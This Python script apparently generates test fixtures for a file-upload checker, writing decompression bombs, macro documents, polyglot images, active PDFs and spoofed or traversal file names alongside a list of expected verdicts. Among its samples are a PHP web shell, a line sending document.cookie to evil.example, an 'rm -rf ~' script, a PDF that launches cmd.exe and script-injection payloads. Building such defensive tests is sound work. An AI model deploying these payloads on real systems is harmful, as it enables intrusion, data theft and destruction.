"""Makes files that somebody could send to do harm, and a list of what is to become of each: hostile.py FOLDER

list.json: [{"file", "name" as it is sent, "becomes": a kind or a reason for refusal, "preview": true, false or null (either)}]
"""
import io, json, os, random, struct, subprocess, sys, zipfile, zlib

from PIL import Image, PngImagePlugin

folder = sys.argv[1]
listed = []
random.seed(26)


def add(name, content, becomes, preview=False):
    path = f"{len(listed) + 1:02}"
    with open(os.path.join(folder, path), "wb") as file:
        file.write(content)
    listed.append({"file": path, "name": name, "becomes": becomes, "preview": preview})


def zipped(entries, **options):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **options) as z:
        for name, content in entries:
            z.writestr(name, content)
    return out.getvalue()


word = [("[Content_Types].xml", "<Types/>"), ("_rels/.rels", "<Relationships/>"), ("word/document.xml", "<w:document/>")]
sheet = [("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"), ("xl/worksheets/sheet1.xml", "<worksheet/>")]


def open_document(more=(), type="application/vnd.oasis.opendocument.text"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", type, zipfile.ZIP_STORED)
        for name in ["content.xml", "META-INF/manifest.xml", *more]:
            z.writestr(name, "<x/>")
    return out.getvalue()


def picture(size=(640, 480), mode="RGB"):
    image = Image.effect_noise(size, 60).convert(mode)
    image.paste(Image.new(mode, (size[0] // 2, size[1] // 2)))
    return image


def saved(image, form, **options):
    out = io.BytesIO()
    image.save(out, form, **options)
    return out.getvalue()


def located():
    exif = Image.Exif()
    exif[0x010F], exif[0x0131], exif[0x8298] = "Merkelig Kamera", "Merkelig program", "Kari Merkelig"
    exif.get_ifd(0x8825).update({1: "N", 2: (63.0, 25.0, 10.0), 3: "E", 4: (10.0, 24.0, 12.0)})
    return exif


xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">Merkelig</rdf:RDF></x:xmpmeta>'
jpeg, png, gif = saved(picture(), "JPEG"), saved(picture(), "PNG"), saved(picture(mode="P"), "GIF")


def pdf(*objects):
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (i + 1, o) for i, o in enumerate(objects))
    return body + b"trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"


page = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bare_png(width, height, rows, depth=8, color=0, interlaced=0):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, interlaced))
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for row in rows) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", data) + chunk(b"IEND", b"")


# Archives, and documents that are more than documents
zeros = bytes(1 << 20)
add("bombe.docx", zipped([*word, *((f"word/media/image{i}.bmp", zeros) for i in range(300))]), "archive")
add("bombe.xlsx", zipped([*sheet, ("xl/media/image1.bmp", bytes(64 << 20))]), "archive")
kernel = zlib.compress(bytes(8 << 20), 9)[2:-4]
local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(kernel), 8 << 20, 1, 0) + b"a" + kernel
central = b"".join(
    struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(kernel), 8 << 20, len(name), 0, 0, 0, 0, 0, 0) + name
    for name in [b"[Content_Types].xml", b"word/document.xml", *(b"word/%d.xml" % i for i in range(500))])
overlapped = local + central + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 502, 502, len(central), len(local), 0)
add("lag på lag.docx", overlapped, "damaged")
nested = zipped([("a.txt", zeros)])
for _ in range(5):
    nested = zipped([(f"{i}.zip", nested) for i in range(10)])
add("42.zip", nested, "archive")
add("42.docx", zipped([*word, ("word/media/42.zip", nested)]), "archive")
add("notat.docx", zipped([*word, ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen")]), "macros")
add("tall.xlsx", zipped([*sheet, ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Auto_Open")]), "macros")
add("tall 4.xlsx", zipped([*sheet, ("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")]), "macros")
add("knapp.docx", zipped([*word, ("word/activeX/activeX1.xml", "<ax:ocx/>")]), "macros")
add("notat.odt", open_document(["Basic/Standard/Module1.xml"]), "macros")
add("skript.ods", open_document(["Scripts/python/a.py"], "application/vnd.oasis.opendocument.spreadsheet"), "macros")
add("pakke.docx", zipped([*word, ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 evil.exe")]), "archive")
add("vei.docx", zipped([*word, ("../../../etc/cron.d/a.xml", "<x/>")]), "damaged")
locked = bytearray(zipped(word))
for at in range(len(locked)):
    if locked[at:at + 4] == b"PK\1\2":
        locked[at + 8] |= 1
add("låst.docx", bytes(locked), "damaged")
add("kuttet.docx", zipped([*word, ("word/a.xml", random.randbytes(9000).hex())])[:-300], "damaged")
add("foran.docx", b"PK\3\4 and something" + zipped(word), "damaged")
add("program.jar", zipped([("META-INF/MANIFEST.MF", "Main-Class: A"), ("A.class", b"\xca\xfe\xba\xbe")]), "archive")
add("bilder.rar", b"Rar!\x1a\x07\x01\x00" + random.randbytes(200), "archive")
add("bilder.7z", b"7z\xbc\xaf\x27\x1c" + random.randbytes(200), "archive")
add("bombe.pdf", zlib.compress(zeros, 9, 31), "archive")
add("a.tar", b"a.sh".ljust(257, b"\0") + b"ustar\x0000".ljust(255, b"\0"), "archive")

# Two in one
jar = zipped([("META-INF/MANIFEST.MF", "Main-Class: A"), ("A.class", b"\xca\xfe\xba\xbe")])
add("gifar.gif", gif + jar, "mixed")
add("bilde.jpg", jpeg + jar, "mixed")
add("bilde.png", png + b"Rar!\x1a\x07\x01\x00" + random.randbytes(200), "mixed")
add("artikkel.pdf", pdf(*page) + jar, "mixed")
add("bilde.jpg", jpeg[:2] + b"\xff\xfe\x00\x1e<?php system($_GET['c']); ?>" + jpeg[2:], "mixed")
add("bilde.gif", b"GIF89a/*\x01\x01\x00\x00\x00;*/=1;</title><SCRIPT>alert(1)</script>", "mixed")
add("bilde.jpg", jpeg + b"%PDF-1.4 1 0 obj <<>> endobj", "mixed")
add("også.pdf", b"\n" * 20 + pdf(*page), "text")

# Pages, scripts and programs
svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
add("tegning.svg", svg, "webPage")
add("tegning.svg", b'<?xml version="1.0"?>\n<!DOCTYPE svg>' + svg, "webPage")
add("side.html", b"<!doctype html><script>alert(1)</script>", "webPage")
add("bilde.jpg", b"  \n<html><body onload=alert(1)>", "webPage")
add("latter.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><l>&b;</l>', "webPage")
add("side.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>", "webPage")
add("side.txt", "<script>alert(1)</script>".encode("utf-16"), "unknown")
add("faktura.pdf", b"MZ" + random.randbytes(500), "program")
add("bilde.png", b"\x7fELF" + random.randbytes(500), "program")
add("les.txt", b"#!/bin/sh\nrm -rf ~\n", "program")
add("lenke.url", b"[InternetShortcut]\r\nURL=file://evil/share\r\n", "program")
add("snarvei.lnk", b"L\0\0\0\x01\x14\x02\0" + random.randbytes(100), "program")
add("skript.js", b"fetch('https://evil.example/?' + document.cookie)\n", "text")
add("brev.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.randbytes(2000), "oldDocument")
add("brev.rtf", rb"{\rtf1{\object\objocx\objdata 0105}}", "oldDocument")
add("melding.bin", random.randbytes(4000), "unknown")
add("tom.pdf", b"", "empty")
add("stor.txt", b"a" * ((10 << 20) + 1), "tooLarge")

# PDFs that act
script = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
add("skjema.pdf", pdf(script, page[1]), "activePDF")
add("skjult.pdf", pdf(script.replace(b"/JavaScript", b"/J#61va#53cript"), page[1]), "activePDF")
add("start.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "activePDF")
add("vedlegg.pdf", pdf(*page, b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZa\nendstream"), "activePDF")
add("kuttet.pdf", pdf(*page)[:-40], "damaged")

# Pictures: bombs, lies, and more than is to be seen
add("stort.png", bare_png(60_000, 60_000, [b""]), "png")
add("stort.png", bare_png(20_000, 20_000, (bytes(20_001) for _ in range(20_000))), "png")
add("tungt.png", bare_png(9_900, 9_900, (bytes(9_900 * 8 + 1) for _ in range(9_900)), 16, 6), "png", None)
add("flettet.png", bare_png(9_900, 9_900, (bytes(9_900 * 4 + 8) for _ in range(19_000)), 8, 6, 1), "png", None)
add("bredt.gif", b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + bytes(6) + b";", "gif")
frames = [picture((200, 200), "P") for _ in range(40)]
add("film.gif", saved(frames[0], "GIF", save_all=True, append_images=frames[1:]), "gif", True)
add("sted.jpg", saved(picture((3000, 2000)), "JPEG", exif=located(), xmp=xmp, comment=b"Merkelig", quality=90), "jpeg", True)
words = PngImagePlugin.PngInfo()
words.add_text("Author", "Kari Merkelig")
words.add_itxt("XML:com.adobe.xmp", xmp.decode())
add("sted.png", saved(picture(), "PNG", pnginfo=words, exif=located()), "png", True)
add("sted.webp", saved(picture(), "WEBP", exif=located().tobytes(), xmp=xmp), "webp", True)
turned = located()
turned[0x0112] = 6
add("snudd.jpg", saved(picture((800, 400)), "JPEG", exif=turned), "jpeg", True)
add("trykk.jpg", saved(picture(mode="CMYK"), "JPEG", exif=located()), "jpeg", True)
add("kuttet.jpg", jpeg[:len(jpeg) // 2], "jpeg", None)
add("kuttet.png", png[:200], "png", None)
add("tull.jpg", b"\xff\xd8\xff\xe0" + random.randbytes(50_000), "jpeg", None)
with open(os.path.join(folder, "sted.jpg"), "wb") as file:
    file.write(saved(picture((2000, 1500)), "JPEG", exif=located(), quality=90))
subprocess.run(["vips", "heifsave", "sted.jpg", "sted.heic"], cwd=folder, check=True, capture_output=True)
with open(os.path.join(folder, "sted.heic"), "rb") as file:
    heic = file.read()
assert b"Merkelig Kamera" in heic
add("sted.heic", heic, "heic", True)
add("kuttet.heic", heic[:len(heic) // 3], "heic", None)

# Names
add("../../../etc/passwd", b"root:x:0:0\n", "text")
add("bilde\u202egpj.exe", jpeg, "jpeg", True)
add('a"; filename="b.html', b"ren tekst\n", "text")
add("bilde.html", jpeg, "jpeg", True)

# And what honest people send
add("kjøreplan.docx", zipped([*word, ("word/media/image1.png", png), ("docProps/app.xml", "<a/>")]), "docx")
add("tall.xlsx", zipped([*sheet, ("xl/printerSettings/printerSettings1.bin", b"\0")]), "xlsx")
add("lysark.pptx", zipped([word[0], ("ppt/presentation.xml", "<p/>"), ("ppt/embeddings/Sheet1.xlsx", zipped(sheet))]), "pptx")
add("notat.odt", open_document(["Thumbnails/thumbnail.png", "settings.xml"]), "odt")
add("tall.ods", open_document([], "application/vnd.oasis.opendocument.spreadsheet"), "ods")
add("artikkel.pdf", pdf(*page), "pdf")
add("notat.txt", "Det var støy på rom 203.\r\n".encode(), "text")
add("gammelt.txt", "Det var støy på rom 203.\r\n".encode("latin-1"), "text")

with open(os.path.join(folder, "list.json"), "w") as file:
    json.dump(listed, file)
